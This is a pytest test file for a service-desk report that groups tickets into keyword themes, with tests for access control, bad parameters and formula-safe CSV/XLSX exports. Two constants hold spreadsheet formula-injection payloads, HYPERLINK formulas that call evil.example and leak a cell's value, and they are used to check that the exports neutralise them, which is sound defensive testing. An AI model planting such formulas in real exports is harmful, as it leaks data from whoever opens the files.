"""Hotspots: the themes (service item and keyword) of a period's tickets, their previous
period and change, sample tickets, scope, bad parameters, query count, formula-safe downloads."""

from __future__ import annotations

import csv
import io
from datetime import datetime
from itertools import count
from zoneinfo import ZoneInfo

import pytest
from openpyxl import load_workbook

from reports.periods import Period
from servicedesk.models import Enterprise
from tests.factories import ServiceItemFactory
from tickets.models import Status, Ticket
from tickets.search import ticket_document
from triage.hotspots import Hotspot, hotspots_for, pick_themes, usable_word

pytestmark = pytest.mark.django_db

SH = ZoneInfo("Asia/Shanghai")
NUMBERS = count(1)
PERIOD = {"from": "2026-10-01", "to": "2026-10-15"}  # the previous period: 09-17 … 10-01
HOSTILE_ITEM = '=HYPERLINK("http://evil.example/?leak="&A1,"点我")'
HOSTILE_TITLE = '=HYPERLINK("http://evil.example","停电了")'


def at(month: int, day: int) -> datetime:
    return datetime(2026, month, day, 10, tzinfo=SH)


def make(world, item, title, description, when, *, other_park=False, status=Status.SUBMITTED):  # type: ignore[no-untyped-def]
    enterprise = world.other_enterprise if other_park else world.enterprise
    enterprise.refresh_from_db()
    number = f"SD-2026-{next(NUMBERS) + 900000:06d}"
    return Ticket.objects.create(
        number=number,
        title=title,
        description=description,
        enterprise=enterprise,
        park=enterprise.park,
        service_item=item,
        department=world.power_dept,
        created_by=world.company,
        status=status,
        search_document=ticket_document(
            number=number, title=title, description=description, enterprise_name=enterprise.name
        ),
        created_at=when,
        updated_at=when,
    )


@pytest.fixture
def tickets(world):  # type: ignore[no-untyped-def]
    """Park A: three power tickets about 停电 (two about 跳闸), two water tickets about 漏水;
    one withdrawn 停电 ticket; before: one 停电, two 漏水; park B: two 车间停电. The
    enterprise's own name (华星电子) is in every ticket's words."""
    Enterprise.objects.filter(pk=world.enterprise.pk).update(name="华星电子有限公司")
    power = world.item
    water = ServiceItemFactory(code="water", name="供水报装", department=world.power_dept)
    made = {
        "p1": make(world, power, "车间停电", "配电房跳闸，华星电子生产线停了", at(10, 2)),
        "p2": make(world, power, "厂区停电", "机器跳闸", at(10, 3)),
        "p3": make(world, power, "宿舍停电", "请尽快", at(10, 4)),
        "w1": make(world, water, "管道漏水", "宿舍", at(10, 5)),
        "w2": make(world, water, "地下管道漏水", "厂房", at(10, 6)),
        "withdrawn": make(world, power, "车间停电", "跳闸", at(10, 7), status=Status.WITHDRAWN),
        "b1": make(world, power, "车间停电", "车间", at(10, 8), other_park=True),
        "b2": make(world, power, "车间又停电", "车间", at(10, 9), other_park=True),
        "before": make(world, power, "停电", "变压器", at(9, 20)),
        "w0": make(world, water, "漏水", "漏水", at(9, 25)),
        "w00": make(world, water, "水管漏水", "漏水", at(9, 26)),
        "long_before": make(world, power, "停电", "停电", at(9, 1)),
        "after": make(world, power, "停电", "停电", at(10, 20)),
    }
    made["water"] = water  # type: ignore[assignment]
    return made


def themes_of(body) -> dict[tuple[str, str], dict]:  # type: ignore[no-untyped-def,type-arg]
    return {(row["service_items"][0]["code"], row["keyword"]): row for row in body["results"]}


def get(api_as, user, **params):  # type: ignore[no-untyped-def]
    return api_as(user).get("/api/v1/reports/hotspots/", {**PERIOD, **params})


# --- the themes -------------------------------------------------------------------------------


def test_themes_of_a_park_by_hand(world, tickets, api_as) -> None:
    response = get(api_as, world.park_manager)
    assert response.status_code == 200, response.content
    body = response.json()
    assert body["period"] == {"kind": "custom", "from": "2026-10-01", "to": "2026-10-15"}
    assert body["previous_period"] == {"from": "2026-09-17", "to": "2026-10-01"}
    themes = themes_of(body)
    # 停电: p1, p2, p3 (the withdrawn one and park B's do not count); before: one
    assert body["results"][0]["keyword"] == "停电"
    outage = themes[("power-connect", "停电")]
    assert (outage["tickets"], outage["previous"], outage["change"], outage["change_rate"]) == (3, 1, 2, 2.0)
    assert outage["label"] == f"{world.item.name} · 停电"
    assert [s["number"] for s in outage["sample"]] == [tickets[k].number for k in ("p3", "p2", "p1")]
    assert set(outage["sample"][0]) == {"id", "number", "title"}
    trip = themes[("power-connect", "跳闸")]
    assert (trip["tickets"], trip["previous"], trip["change"], trip["change_rate"]) == (2, 0, 2, None)
    leak = themes[("water", "漏水")]
    assert (leak["tickets"], leak["previous"], leak["change"], leak["change_rate"]) == (2, 2, 0, 0.0)
    # 管道 goes with 漏水 in exactly the same tickets: one theme
    assert leak["keywords"] == ["漏水", "管道"]
    assert leak["service_items"] == [{"id": tickets["water"].pk, "code": "water", "name": "供水报装", "name_en": ""}]
    # nothing of one ticket, of the enterprise's name, of the item's name, of the numbers
    assert set(themes) == {("power-connect", "停电"), ("power-connect", "跳闸"), ("water", "漏水")}
    assert set(leak) >= {"label", "keywords", "tickets", "previous", "change", "service_items", "sample"}
    url = leak["tickets_url"]
    assert url.startswith("/api/v1/tickets/?service_item=water&search=")
    listed = api_as(world.park_manager).get(url)
    assert listed.status_code == 200
    assert {t["number"] for t in listed.json()["results"]} == {tickets["w1"].number, tickets["w2"].number}


def test_the_zone_sees_every_park_and_may_pick_one(world, tickets, api_as) -> None:
    themes = themes_of(get(api_as, world.zone_manager).json())
    assert themes[("power-connect", "停电")]["tickets"] == 5
    assert themes[("power-connect", "车间")]["tickets"] == 3  # p1 in park A, b1 and b2 in park B
    park_b = themes_of(get(api_as, world.zone_manager, park=world.other_park.pk).json())
    assert park_b[("power-connect", "停电")]["tickets"] == 2
    assert park_b[("power-connect", "停电")]["keywords"] == ["停电", "车间"]  # the same two tickets
    assert ("water", "漏水") not in park_b


def test_a_park_manager_sees_only_their_park(world, tickets, api_as) -> None:
    mine = themes_of(get(api_as, world.park_manager).json())
    assert ("power-connect", "车间") not in mine  # only p1 in park A: one ticket is no theme
    # another park's id finds nothing, like any id that matches nothing
    assert get(api_as, world.park_manager, park=world.other_park.pk).json()["results"] == []
    assert get(api_as, world.other_park_manager).json()["results"][0]["tickets"] == 2


@pytest.mark.parametrize("who", ["chief", "company", "other_company"])
def test_officers_and_enterprises_are_refused(world, tickets, api_as, who) -> None:
    assert get(api_as, getattr(world, who)).status_code == 403
    assert get(api_as, getattr(world, who), format="csv").status_code == 403


def test_anonymous_is_refused(api) -> None:  # type: ignore[no-untyped-def]
    assert api.get("/api/v1/reports/hotspots/", PERIOD).status_code == 401


@pytest.mark.parametrize(
    "params",
    [
        {"from": "1900-01-01", "to": "1900-02-01"},
        {"from": "2026-10-01", "to": "9999-12-31"},
        {"period": "month", "at": "0001-01-01"},
        {"period": "month", "at": "9999-12-31"},
        {"period": "year"},
        {"period": "month", "park": "x"},
        {"period": "month", "park": "0"},
        {"period": "month", "park": str(2**63)},
        {"period": "month", "limit": "0"},
        {"period": "month", "limit": "51"},
        {"period": "month", "format": "pdf"},
        {},
    ],
)
def test_bad_params_are_400(world, api_as, params) -> None:  # type: ignore[no-untyped-def]
    response = api_as(world.zone_manager).get("/api/v1/reports/hotspots/", params)
    assert response.status_code == 400, response.content


def test_limit(world, tickets, api_as) -> None:
    body = get(api_as, world.zone_manager, limit=1).json()
    assert [row["keyword"] for row in body["results"]] == ["停电"]


def test_an_empty_period_has_no_themes(world, tickets, api_as) -> None:
    body = get(api_as, world.zone_manager, **{"from": "2030-01-01", "to": "2030-02-01"}).json()
    assert body["results"] == []


def test_query_count_does_not_grow_with_themes_or_tickets(world, tickets, django_assert_max_num_queries) -> None:
    period = Period(datetime(2026, 10, 1).date(), datetime(2026, 10, 15).date())

    def run() -> list[Hotspot]:
        return hotspots_for(
            world.zone_manager, since=period.since, until=period.until, previous_since=period.previous().since
        )

    with django_assert_max_num_queries(3):
        few = run()
    for n in range(12):
        item = ServiceItemFactory(department=world.power_dept)
        for k in range(3):
            make(world, item, f"主题{n}词组", f"道路{k}破损", at(10, 10 + k % 3))
    with django_assert_max_num_queries(3):
        many = run()
    assert len(many) > len(few)


# --- downloads: the enterprises' words stay data ------------------------------------------------


@pytest.fixture
def hostile(world, tickets):  # type: ignore[no-untyped-def]
    item = tickets["water"]
    item.name = HOSTILE_ITEM
    item.save()
    make(world, world.item, HOSTILE_TITLE, "停电", at(10, 10))


def test_csv_cells_are_formula_safe(world, hostile, api_as) -> None:
    response = get(api_as, world.zone_manager, format="csv")
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[0] == [
        "rank",
        "label",
        "service_item",
        "keywords",
        "tickets",
        "previous",
        "change",
        "change_rate",
        "sample",
    ]
    cells = [cell for row in rows[1:] for cell in row]
    assert not [cell for cell in cells if cell.startswith(("=", "+", "@"))]
    assert "'" + HOSTILE_ITEM in cells  # the service item column, neutralised
    assert any(HOSTILE_TITLE in cell for cell in cells)  # the sample, behind the ticket number


def test_xlsx_cells_are_strings_never_formulas(world, hostile, api_as) -> None:
    response = get(api_as, world.zone_manager, format="xlsx")
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    values = [cell for row in sheet.iter_rows() for cell in row]
    assert values[0].value == "rank"
    texts = [cell for cell in values if isinstance(cell.value, str)]
    assert all(cell.data_type == "s" for cell in texts)
    assert not [cell.value for cell in texts if cell.value.startswith(("=", "+", "@"))]
    assert "'" + HOSTILE_ITEM in [cell.value for cell in texts]


# --- the rules without a database ------------------------------------------------------------


def test_usable_words() -> None:
    assert usable_word("停电")
    assert not usable_word("电")  # one character
    assert not usable_word("2026") and not usable_word("a1")  # numbers
    assert not usable_word("您好") and not usable_word("sd")  # stop words, ticket numbers
    assert not usable_word("华星", company="华星电子有限公司")
    assert not usable_word("用水", item="用水报装")


def test_words_of_the_same_tickets_fold_into_one_theme() -> None:
    rows = [
        (1, "高新技术", 3, 1, "a"),
        (1, "高新", 3, 0, "a"),
        (1, "补贴", 3, 2, "b"),  # as many tickets, not the same ones: a theme of its own
        (1, "材料", 2, 0, "c"),
        (1, "认定", 2, 0, "d"),  # a fourth theme of item 1 (after 材料 by the word): over PER_ITEM
        (2, "停电", 2, 5, "e"),
    ]
    themes = pick_themes(rows, limit=10)
    assert [(t.service_item_id, t.keywords) for t in themes] == [
        (1, ["高新技术", "高新"]),
        (1, ["补贴"]),
        (1, ["材料"]),
        (2, ["停电"]),
    ]
    assert themes[0].label == "高新技术"  # no item name yet; the part 高新 is not repeated
    assert themes[-1].change == -3 and themes[-1].change_rate == -0.6
    assert [t.keyword for t in pick_themes(rows, limit=2)] == ["高新技术", "补贴"]
